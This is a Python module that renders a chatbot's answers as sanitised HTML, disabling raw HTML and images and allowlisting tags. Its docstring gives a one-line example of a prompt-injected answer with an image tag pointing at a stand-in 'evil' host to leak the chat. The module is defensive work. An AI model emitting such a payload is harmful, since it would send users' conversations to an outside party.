"""What a person sees of a message: Markdown rendered on the server into a small allowlist of HTML.

Model output is untrusted: a prompt-injected answer could carry ``<img src="https://evil/?q=<the chat>">`` and
leak the conversation the moment it is shown. So answers are never handed to the browser as Markdown or HTML
to interpret. markdown-it renders them here with raw HTML off (tags come out as text) and images off (an
image becomes its alt text and address), nh3 (ammonia) then keeps only the tags and attributes listed below --
no ``img``, ``style``, ``iframe``, event handlers or ``javascript:`` links -- and links get
``rel="noopener noreferrer nofollow"``: nothing in an answer loads anything by itself. The chatbot shows the
result with its own Markdown step off (``render_markdown=False``) and its DOMPurify on as a second layer.

The model version and notices (cut at the length limit, stopped) go in a footer built after the answer is
rendered, so an answer that ends inside an unclosed code block cannot swallow it.
"""

from __future__ import annotations

import html
import re
from functools import lru_cache
from typing import Any

import nh3
from markdown_it import MarkdownIt
from pygments import highlight
from pygments.formatters import HtmlFormatter
from pygments.lexers import get_lexer_by_name
from pygments.util import ClassNotFound

from app.ui.state import Message

ALLOWED_TAGS = {
    "p",
    "br",
    "hr",
    "pre",
    "code",
    "span",
    "div",
    "em",
    "strong",
    "del",
    "s",
    "sub",
    "sup",
    "blockquote",
    "ul",
    "ol",
    "li",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "a",
}
ALLOWED_ATTRIBUTES = {
    "a": {"href", "title"},
    "code": {"class"},
    "span": {"class"},
    "div": {"class"},
    "pre": {"class"},
    "ol": {"start"},
}
URL_SCHEMES = {"http", "https", "mailto"}
_FORMATTER = HtmlFormatter(nowrap=True, classprefix="hl-")
LENGTH_NOTICE = "Cut off at the length limit."
STOPPED_NOTICE = "Stopped."
ERROR_NOTICE = "Something went wrong while answering."
FEEDBACK_LABELS = {"up": "Like", "down": "Dislike"}


def _highlight(code: str, lang: str, _attrs: Any) -> str:
    """Pygments classes for a fenced block with a known language; '' lets markdown-it escape it plainly."""
    try:
        lexer = get_lexer_by_name(lang.strip().split()[0]) if lang.strip() else None
    except ClassNotFound:
        lexer = None
    return highlight(code, lexer, _FORMATTER) if lexer else ""


_MD = (
    MarkdownIt("commonmark", {"html": False, "linkify": False, "typographer": False, "highlight": _highlight})
    .enable(["table", "strikethrough"])
    .disable("image")
)


def sanitize(fragment: str) -> str:
    """The allowlist pass: whatever the renderer produced, only these tags and attributes reach the browser."""
    return nh3.clean(
        fragment,
        tags=ALLOWED_TAGS,
        attributes=ALLOWED_ATTRIBUTES,
        url_schemes=URL_SCHEMES,
        link_rel="noopener noreferrer nofollow",
        set_tag_attribute_values={"a": {"target": "_blank"}},
        strip_comments=True,
    )


def markdown_html(text: str) -> str:
    """An answer's Markdown as safe HTML (raw HTML shows as text, images as text, code highlighted)."""
    return sanitize(_MD.render(text))


def plain_html(text: str) -> str:
    """A person's message as they typed it: escaped text, line breaks kept by CSS (``white-space: pre-wrap``).
    No wrapper element: Gradio's edit box starts from this value, and the edit handler unescapes it."""
    return html.escape(text, quote=False)


def footer_html(message: Message) -> str:
    """Model version and notices under a finished answer."""
    parts = [f'<span class="fw-version">{html.escape(message.get("model_version") or "")}</span>']
    finish = message.get("finish")
    if finish == "length":
        parts.append(f'<span class="fw-notice fw-cut">{LENGTH_NOTICE}</span>')
    elif finish == "cancelled":
        parts.append(f'<span class="fw-notice fw-stopped">{STOPPED_NOTICE}</span>')
    elif finish == "error":
        parts.append(f'<span class="fw-notice fw-error">{ERROR_NOTICE}</span>')
    return f'<div class="fw-meta">{" · ".join(parts)}</div>'


@lru_cache(maxsize=512)
def _finished_html(text: str) -> str:
    return markdown_html(text)


def message_html(message: Message) -> str:
    """One bubble. Finished answers are rendered once (every streamed token redraws the whole conversation)."""
    if message["role"] != "assistant":
        return plain_html(message["content"])
    render = _finished_html if message.get("done") else markdown_html
    body = f'<div class="fw-md">{render(message["content"])}</div>'
    if message.get("done") and message.get("model_version"):
        body += footer_html(message)
    return body


def display(messages: list[Message]) -> list[dict[str, str]]:
    """The chatbot's value: one rendered bubble per message of record."""
    return [{"role": m["role"], "content": message_html(m)} for m in messages]


def feedback_values(messages: list[Message]) -> list[str | None]:
    """The thumb each answer shows, in order: always sent with the messages, so a highlight never outlives
    the answer it belonged to (after retry, new chat, reload)."""
    return [FEEDBACK_LABELS.get(m.get("rating") or "") for m in messages if m["role"] == "assistant"]


_MD_PUNCT = re.compile(r"([!-/:-@\[-`{-~])")


def md_text(text: str) -> str:
    """Any text as literal Markdown: every ASCII punctuation mark backslash-escaped (CommonMark allows it for
    all of them), so no value -- a title, a version name, a lineage field -- can become a link, image or tag."""
    return _MD_PUNCT.sub(r"\\\1", " ".join(text.split()))


def status_md(text: str, kind: str = "warn") -> str:
    """One status line (a gr.Markdown): literal text, with an icon for the kind."""
    icon = {"warn": "⚠️", "ok": "✓", "info": ""}[kind]
    return f"{icon} {md_text(text)}".strip()


def pygments_css() -> str:
    """Code colours for the light and the dark theme."""
    light = HtmlFormatter(style="default", classprefix="hl-").get_style_defs(".fw-md pre")
    dark = HtmlFormatter(style="monokai", classprefix="hl-").get_style_defs(".dark .fw-md pre")
    keep = lambda css: "\n".join(r for r in css.splitlines() if " .hl-" in r)  # noqa: E731 - token colours only
    return keep(light) + "\n" + keep(dark)
